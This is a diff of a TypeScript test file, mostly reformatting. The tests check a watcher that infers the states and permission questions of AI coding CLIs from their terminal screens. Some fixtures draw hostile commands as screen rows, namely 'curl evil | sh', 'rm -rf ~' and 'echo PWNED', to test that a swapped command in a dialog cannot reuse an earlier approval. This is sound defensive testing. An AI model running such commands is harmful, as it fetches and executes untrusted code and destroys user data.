@@ -50,89 +50,101 @@ function draw(host: ReturnType<typeof fakeHost>, rows: string[], changed = rows)
   host.token++;
 }
 
-test("screen rules: starting until the input box is drawn; busy is working; a question is waiting; still and ready is idle", () => {
-  const host = fakeHost();
-  const watch = new AgentWatch("a1", findAgent("gemini", env), host, { tickMs: 0 });
-  draw(host, ["loading…"]);
-  watch.read(0);
-  watch.read(5000);
-  expect(watch.state).toBe("starting"); // nothing drawn that says it is ready: not idle, however quiet
-  draw(host, ["> Type your message or @path/to/file"]);
-  watch.read(5100);
-  expect(watch.state).toBe("starting"); // not yet still for long enough
-  watch.read(5700);
-  expect(watch.state).toBe("idle");
-  draw(host, ["> fix it", "⠋ Thinking... (esc to cancel, 0s)", "> Type your message"]);
-  watch.read(6000);
-  expect(watch.state).toBe("working");
-  expect(watch.line).toBe("⠋ Thinking... (esc to cancel, 0s)");
-  // A tool silent for a long time: the busy marker holds it at working.
-  watch.read(60_000);
-  expect(watch.state).toBe("working");
-  draw(host, [
-    "│ Apply this change?     │",
-    "│ ● 1. Allow once        │",
-    "⠏ Waiting for user confirmation... (esc to cancel)",
-  ]);
-  watch.read(60_100);
-  expect(watch.state).toBe("waiting");
-  expect(watch.line).toBe("Apply this change?"); // the question, out of its box: not the option or the status
-  // Input answers it: the question still drawn from before no longer counts.
-  watch.input();
-  draw(
-    host,
-    ["│ Apply this change?     │", "│ ● 1. Allow once        │", "⠋ Thinking... (esc to cancel, 1s)"],
-    ["⠋ Thinking... (esc to cancel, 1s)"],
-  );
-  watch.read(60_200);
-  expect(watch.state).toBe("working");
-  draw(
-    host,
-    ["✦ All done.", "? for shortcuts", "> Type your message"],
-    ["✦ All done.", "? for shortcuts", "> Type your message"],
-  );
-  watch.read(60_300);
-  expect(watch.state).toBe("working");
-  watch.read(60_900);
-  expect(watch.state).toBe("idle");
-  expect(watch.line).toBe("✦ All done."); // the agent's last words, not its hint row or input box
-  expect(states(host)).toEqual(["idle", "working", "waiting", "working", "idle"]);
-  watch.dispose();
-});
-
-test("given a prompt on its command line, the input box drawn first is not idle: the turn is about to start (with hooks or without)", () => {
-  const gemini = findAgent("gemini", env);
-  for (const agent of [gemini, { ...gemini, hooks: "claude-settings" as const }]) {
+test(
+  "screen rules: starting until the input box is drawn; busy " +
+    "is working; a question is waiting; still and ready is idle",
+  () => {
     const host = fakeHost();
-    const watch = new AgentWatch("a5", agent, host, { tickMs: 0, promptGiven: true });
+    const watch = new AgentWatch("a1", findAgent("gemini", env), host, { tickMs: 0 });
+    draw(host, ["loading…"]);
+    watch.read(0);
+    watch.read(5000);
+    expect(watch.state).toBe("starting"); // nothing drawn that says it is ready: not idle, however quiet
+    draw(host, ["> Type your message or @path/to/file"]);
+    watch.read(5100);
+    expect(watch.state).toBe("starting"); // not yet still for long enough
+    watch.read(5700);
+    expect(watch.state).toBe("idle");
+    draw(host, ["> fix it", "⠋ Thinking... (esc to cancel, 0s)", "> Type your message"]);
+    watch.read(6000);
+    expect(watch.state).toBe("working");
+    expect(watch.line).toBe("⠋ Thinking... (esc to cancel, 0s)");
+    // A tool silent for a long time: the busy marker holds it at working.
+    watch.read(60_000);
+    expect(watch.state).toBe("working");
+    draw(host, [
+      "│ Apply this change?     │",
+      "│ ● 1. Allow once        │",
+      "⠏ Waiting for user confirmation... (esc to cancel)",
+    ]);
+    watch.read(60_100);
+    expect(watch.state).toBe("waiting");
+    expect(watch.line).toBe("Apply this change?"); // the question, out of its box: not the option or the status
+    // Input answers it: the question still drawn from before no longer counts.
+    watch.input();
+    draw(
+      host,
+      ["│ Apply this change?     │", "│ ● 1. Allow once        │", "⠋ Thinking... (esc to cancel, 1s)"],
+      ["⠋ Thinking... (esc to cancel, 1s)"],
+    );
+    watch.read(60_200);
+    expect(watch.state).toBe("working");
+    draw(
+      host,
+      ["✦ All done.", "? for shortcuts", "> Type your message"],
+      ["✦ All done.", "? for shortcuts", "> Type your message"],
+    );
+    watch.read(60_300);
+    expect(watch.state).toBe("working");
+    watch.read(60_900);
+    expect(watch.state).toBe("idle");
+    expect(watch.line).toBe("✦ All done."); // the agent's last words, not its hint row or input box
+    expect(states(host)).toEqual(["idle", "working", "waiting", "working", "idle"]);
+    watch.dispose();
+  },
+);
+
+test(
+  "given a prompt on its command line, the input box drawn first " +
+    "is not idle: the turn is about to start (with hooks or without)",
+  () => {
+    const gemini = findAgent("gemini", env);
+    for (const agent of [gemini, { ...gemini, hooks: "claude-settings" as const }]) {
+      const host = fakeHost();
+      const watch = new AgentWatch("a5", agent, host, { tickMs: 0, promptGiven: true });
+      draw(host, ["> Type your message"]);
+      watch.read(0);
+      watch.read(3000);
+      watch.read(5000);
+      expect(watch.state).toBe("starting");
+      draw(host, ["⠋ Thinking (esc to cancel)"]);
+      watch.read(5100);
+      expect(states(host)).toEqual(["working"]);
+      watch.dispose();
+    }
+  },
+);
+
+test(
+  "a busy marker the TUI wrapped onto two rows is still working " +
+    "(qwen's and gemini's long status phrases at 80 columns)",
+  () => {
+    const host = fakeHost();
+    const watch = new AgentWatch("a6", findAgent("gemini", env), host, { tickMs: 0, promptGiven: true });
     draw(host, ["> Type your message"]);
     watch.read(0);
-    watch.read(3000);
-    watch.read(5000);
-    expect(watch.state).toBe("starting");
-    draw(host, ["⠋ Thinking (esc to cancel)"]);
-    watch.read(5100);
+    draw(host, [
+      "  ⠋ Counting electrons and re-routing the flux capacitor and more (0s · esc to",
+      "                                                                     cancel)",
+      "> Type your message",
+    ]);
+    watch.read(100);
+    expect(watch.state).toBe("working");
+    watch.read(20_000); // a silent tool: the wrapped marker still holds it at working
     expect(states(host)).toEqual(["working"]);
     watch.dispose();
-  }
-});
-
-test("a busy marker the TUI wrapped onto two rows is still working (qwen's and gemini's long status phrases at 80 columns)", () => {
-  const host = fakeHost();
-  const watch = new AgentWatch("a6", findAgent("gemini", env), host, { tickMs: 0, promptGiven: true });
-  draw(host, ["> Type your message"]);
-  watch.read(0);
-  draw(host, [
-    "  ⠋ Counting electrons and re-routing the flux capacitor and more (0s · esc to",
-    "                                                                     cancel)",
-    "> Type your message",
-  ]);
-  watch.read(100);
-  expect(watch.state).toBe("working");
-  watch.read(20_000); // a silent tool: the wrapped marker still holds it at working
-  expect(states(host)).toEqual(["working"]);
-  watch.dispose();
-});
+  },
+);
 
 test("hooks win over the screen; waiters resolve on the state and fail when the agent exits", async () => {
   const host = fakeHost();
@@ -173,29 +185,33 @@ test("a hook's question waits for the question to be drawn, so the line is the q
   watch.dispose();
 });
 
-test("the idle that ends an answered question's turn waits for the turn's words: the answered question is never its line", () => {
-  const host = fakeHost();
-  const watch = new AgentWatch("a10", findAgent("claude", env), host, { tickMs: 0 });
-  watch.notify("working");
-  draw(host, ["● Bash(rm -rf build)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
-  watch.notify("waiting");
-  const start = performance.now();
-  watch.read(start);
-  expect(watch.line).toBe("Do you want to proceed?");
-  watch.takeQuestion();
-  watch.input();
-  // The Stop hook comes while the dialog is still the last thing drawn (a loaded machine).
-  draw(host, ["● Bash(rm -rf build)", " Do you want to proceed?"], []);
-  watch.notify("idle");
-  watch.read(start + 300);
-  watch.read(start + 500); // still for 200 ms: the idle would go out now, with the old words
-  expect(watch.state).toBe("waiting");
-  draw(host, ["● Bash(rm -rf build)", "● done: build removed"], ["● done: build removed"]);
-  watch.read(start + 520);
-  watch.read(start + 700);
-  expect(watch.reply()).toEqual({ state: "idle", line: "● done: build removed" });
-  watch.dispose();
-});
+test(
+  "the idle that ends an answered question's turn waits for " +
+    "the turn's words: the answered question is never its line",
+  () => {
+    const host = fakeHost();
+    const watch = new AgentWatch("a10", findAgent("claude", env), host, { tickMs: 0 });
+    watch.notify("working");
+    draw(host, ["● Bash(rm -rf build)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
+    watch.notify("waiting");
+    const start = performance.now();
+    watch.read(start);
+    expect(watch.line).toBe("Do you want to proceed?");
+    watch.takeQuestion();
+    watch.input();
+    // The Stop hook comes while the dialog is still the last thing drawn (a loaded machine).
+    draw(host, ["● Bash(rm -rf build)", " Do you want to proceed?"], []);
+    watch.notify("idle");
+    watch.read(start + 300);
+    watch.read(start + 500); // still for 200 ms: the idle would go out now, with the old words
+    expect(watch.state).toBe("waiting");
+    draw(host, ["● Bash(rm -rf build)", "● done: build removed"], ["● done: build removed"]);
+    watch.read(start + 520);
+    watch.read(start + 700);
+    expect(watch.reply()).toEqual({ state: "idle", line: "● done: build removed" });
+    watch.dispose();
+  },
+);
 
 test("a timeout names the state the agent is in", async () => {
   const host = fakeHost();
@@ -227,41 +243,45 @@ test("a typed prompt goes in once the TUI shows its ready pattern, as a brackete
   watch.dispose();
 });
 
-test("resuming, the typed prompt waits for the conversation to show; no idle before it; the long wait types it anyway", async () => {
-  const opencode = findAgent("opencode", env);
-  const host = fakeHost();
-  const watch = new AgentWatch("a5", opencode, host, { tickMs: 0, typedPrompt: "recall it", resumed: true });
-  // opencode 1.18 --continue: its home screen's input box first, the conversation after.
-  draw(host, ["  ┃", "  ┃  Build auto · Fake model", "   /work            tab agents  ctrl+p commands"]);
-  watch.read(0);
-  watch.read(1000);
-  watch.read(2000);
-  expect(host.written).toEqual([]);
-  expect(watch.state).toBe("starting");
-  draw(host, [
-    "  ┃  remember it",
-    "     ▣  Build · Fake model",
-    "  ┃",
-    "   /work            tab agents  ctrl+p commands",
-  ]);
-  watch.read(2100);
-  watch.read(2400);
-  expect(host.written).toEqual(["\x1b[200~recall it\x1b[201~"]);
-  watch.dispose();
+test(
+  "resuming, the typed prompt waits for the conversation to " +
+    "show; no idle before it; the long wait types it anyway",
+  async () => {
+    const opencode = findAgent("opencode", env);
+    const host = fakeHost();
+    const watch = new AgentWatch("a5", opencode, host, { tickMs: 0, typedPrompt: "recall it", resumed: true });
+    // opencode 1.18 --continue: its home screen's input box first, the conversation after.
+    draw(host, ["  ┃", "  ┃  Build auto · Fake model", "   /work            tab agents  ctrl+p commands"]);
+    watch.read(0);
+    watch.read(1000);
+    watch.read(2000);
+    expect(host.written).toEqual([]);
+    expect(watch.state).toBe("starting");
+    draw(host, [
+      "  ┃  remember it",
+      "     ▣  Build · Fake model",
+      "  ┃",
+      "   /work            tab agents  ctrl+p commands",
+    ]);
+    watch.read(2100);
+    watch.read(2400);
+    expect(host.written).toEqual(["\x1b[200~recall it\x1b[201~"]);
+    watch.dispose();
 
-  // A conversation with nothing the patterns know: typed after the long wait, never lost.
-  const other = fakeHost();
-  const late = new AgentWatch("a6", opencode, other, { tickMs: 0, typedPrompt: "recall it", resumed: true });
-  draw(other, ["  ┃", "   /work            tab agents  ctrl+p commands"]);
-  late.read(0);
-  late.read(9000);
-  expect(other.written).toEqual([]);
-  late.read(10_001);
-  expect(other.written).toEqual(["\x1b[200~recall it\x1b[201~"]);
-  late.dispose();
-});
+    // A conversation with nothing the patterns know: typed after the long wait, never lost.
+    const other = fakeHost();
+    const late = new AgentWatch("a6", opencode, other, { tickMs: 0, typedPrompt: "recall it", resumed: true });
+    draw(other, ["  ┃", "   /work            tab agents  ctrl+p commands"]);
+    late.read(0);
+    late.read(9000);
+    expect(other.written).toEqual([]);
+    late.read(10_001);
+    expect(other.written).toEqual(["\x1b[200~recall it\x1b[201~"]);
+    late.dispose();
+  },
+);
 
-test("an agent of the user's own (no patterns) is idle when the kernel says it reads its terminal, working otherwise", () => {
+test("an agent of the user's own (no patterns): idle when it reads its terminal, working otherwise", () => {
   const host = { ...fakeHost(), wanted: false as boolean | undefined };
   const watch = new AgentWatch(
     "a1",
@@ -291,33 +311,37 @@ test("an agent of the user's own (no patterns) is idle when the kernel says it r
   expect(other.state).toBe("idle");
 });
 
-test("input goes to the CLI alone: a typed prompt waits while another program has the terminal, and an exited agent takes none", () => {
-  const host = fakeHost();
-  let place: "foreground" | "elsewhere" | "gone" = "elsewhere";
-  const watch = new AgentWatch("a8", findAgent("gemini", env), Object.assign(host, { agentProcess: () => place }), {
-    tickMs: 0,
-    typedPrompt: "fix the bug",
-  });
-  draw(host, ["Type your message or @path/to/file"]);
-  watch.read(0);
-  watch.read(10_100); // a prompt to type: idle only after the long wait
-  expect(watch.state).toBe("idle");
-  expect(host.written).toEqual([]); // someone else has the terminal: the prompt waits
-  expect(() => watch.assertOwnsTerminal()).toThrow("another program has");
-  // The CLI is gone (its exit report lost): exited after a grace, and nothing is typed ever.
-  place = "gone";
-  watch.read(10_700);
-  expect(watch.state).toBe("idle");
-  watch.read(11_800);
-  expect(watch.state).toBe("exited");
-  expect(host.written).toEqual([]);
-  expect(() => watch.type("echo PWNED")).toThrow("has exited");
-  expect(() => watch.assertOwnsTerminal()).toThrow("has exited");
-  // Nothing comes back from exited; the wrapper's late report only names the exit code.
-  watch.notify("exited", "1");
-  expect(watch.line).toBe("exit code 1");
-  watch.dispose();
-});
+test(
+  "input goes to the CLI alone: a typed prompt waits while another " +
+    "program has the terminal, and an exited agent takes none",
+  () => {
+    const host = fakeHost();
+    let place: "foreground" | "elsewhere" | "gone" = "elsewhere";
+    const watch = new AgentWatch("a8", findAgent("gemini", env), Object.assign(host, { agentProcess: () => place }), {
+      tickMs: 0,
+      typedPrompt: "fix the bug",
+    });
+    draw(host, ["Type your message or @path/to/file"]);
+    watch.read(0);
+    watch.read(10_100); // a prompt to type: idle only after the long wait
+    expect(watch.state).toBe("idle");
+    expect(host.written).toEqual([]); // someone else has the terminal: the prompt waits
+    expect(() => watch.assertOwnsTerminal()).toThrow("another program has");
+    // The CLI is gone (its exit report lost): exited after a grace, and nothing is typed ever.
+    place = "gone";
+    watch.read(10_700);
+    expect(watch.state).toBe("idle");
+    watch.read(11_800);
+    expect(watch.state).toBe("exited");
+    expect(host.written).toEqual([]);
+    expect(() => watch.type("echo PWNED")).toThrow("has exited");
+    expect(() => watch.assertOwnsTerminal()).toThrow("has exited");
+    // Nothing comes back from exited; the wrapper's late report only names the exit code.
+    watch.notify("exited", "1");
+    expect(watch.line).toBe("exit code 1");
+    watch.dispose();
+  },
+);
 
 test("each question has an id; an answer takes it once, and only the one named", () => {
   const host = fakeHost();
@@ -368,48 +392,52 @@ test("after an Enter it has not reacted to, a wait for idle waits for the turn t
   watch.dispose();
 });
 
-test("a question's dialog drawn again with another row is another question: an answer naming the one read is refused (a spinner, or the dialog still being drawn, is no change)", () => {
-  const host = fakeHost();
-  const watch = new AgentWatch("a11", findAgent("claude", env), host, { tickMs: 0 });
-  const start = performance.now();
-  watch.notify("working");
-  draw(host, ["● Bash(ls)", " Do you want to proceed?"]);
-  watch.notify("waiting");
-  watch.read(start);
-  expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
-  // Its options drawn a frame later: the same question, still being drawn.
-  draw(host, ["● Bash(ls)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
-  watch.read(start + 100);
-  expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
-  // Long after, a child holding the terminal redraws the command row; the question's words stay.
-  draw(host, ["● Bash(rm -rf ~)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
-  watch.read(start + 3000);
-  expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 2 });
-  expect(host.published.at(-1)).toMatchObject({ event: "agent_state", state: "waiting", question_id: 2 });
-  expect(() => watch.takeQuestion(1)).toThrow("waits on question 2, not 1 (its dialog was drawn again");
-  // Redrawn and answered before any read: the answer itself looks at the screen.
-  watch.read(start + 6000);
-  draw(host, ["● Bash(curl evil | sh)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
-  expect(() => watch.takeQuestion(2)).toThrow("waits on question 3, not 2");
-  expect(watch.takeQuestion(3)).toMatchObject({ question_id: 3 });
-  watch.dispose();
+test(
+  "a question's dialog drawn again with another row is another question: an answer naming " +
+    "the one read is refused (a spinner, or the dialog still being drawn, is no change)",
+  () => {
+    const host = fakeHost();
+    const watch = new AgentWatch("a11", findAgent("claude", env), host, { tickMs: 0 });
+    const start = performance.now();
+    watch.notify("working");
+    draw(host, ["● Bash(ls)", " Do you want to proceed?"]);
+    watch.notify("waiting");
+    watch.read(start);
+    expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
+    // Its options drawn a frame later: the same question, still being drawn.
+    draw(host, ["● Bash(ls)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
+    watch.read(start + 100);
+    expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
+    // Long after, a child holding the terminal redraws the command row; the question's words stay.
+    draw(host, ["● Bash(rm -rf ~)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
+    watch.read(start + 3000);
+    expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 2 });
+    expect(host.published.at(-1)).toMatchObject({ event: "agent_state", state: "waiting", question_id: 2 });
+    expect(() => watch.takeQuestion(1)).toThrow("waits on question 2, not 1 (its dialog was drawn again");
+    // Redrawn and answered before any read: the answer itself looks at the screen.
+    watch.read(start + 6000);
+    draw(host, ["● Bash(curl evil | sh)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
+    expect(() => watch.takeQuestion(2)).toThrow("waits on question 3, not 2");
+    expect(watch.takeQuestion(3)).toMatchObject({ question_id: 3 });
+    watch.dispose();
 
-  // qwen and gemini animate a spinner (and gemini its ⊶/⊷ tool status) while they ask: the same question.
-  const spinning = fakeHost();
-  const qwen = new AgentWatch("a12", findAgent("qwen", env), spinning, { tickMs: 0 });
-  const frame = (spinner: string, tool: string) => [
-    `│ ${tool}  WriteFile  Writing to hello.txt │`,
-    "│ Apply this change?     │",
-    "│ ● 1. Allow once        │",
-    `${spinner} Waiting for user confirmation... (esc to cancel)`,
-  ];
-  draw(spinning, frame("⠋", "⊶"));
-  qwen.read(60_000);
-  expect(qwen.reply()).toMatchObject({ state: "waiting", question_id: 1 });
-  draw(spinning, frame("⠙", "⊷"));
-  qwen.read(65_000);
-  draw(spinning, frame("⠹", "⊶"));
-  qwen.read(70_000);
-  expect(qwen.takeQuestion(1)).toMatchObject({ question_id: 1 });
-  qwen.dispose();
-});
+    // qwen and gemini animate a spinner (and gemini its ⊶/⊷ tool status) while they ask: the same question.
+    const spinning = fakeHost();
+    const qwen = new AgentWatch("a12", findAgent("qwen", env), spinning, { tickMs: 0 });
+    const frame = (spinner: string, tool: string) => [
+      `│ ${tool}  WriteFile  Writing to hello.txt │`,
+      "│ Apply this change?     │",
+      "│ ● 1. Allow once        │",
+      `${spinner} Waiting for user confirmation... (esc to cancel)`,
+    ];
+    draw(spinning, frame("⠋", "⊶"));
+    qwen.read(60_000);
+    expect(qwen.reply()).toMatchObject({ state: "waiting", question_id: 1 });
+    draw(spinning, frame("⠙", "⊷"));
+    qwen.read(65_000);
+    draw(spinning, frame("⠹", "⊶"));
+    qwen.read(70_000);
+    expect(qwen.takeQuestion(1)).toMatchObject({ question_id: 1 });
+    qwen.dispose();
+  },
+);
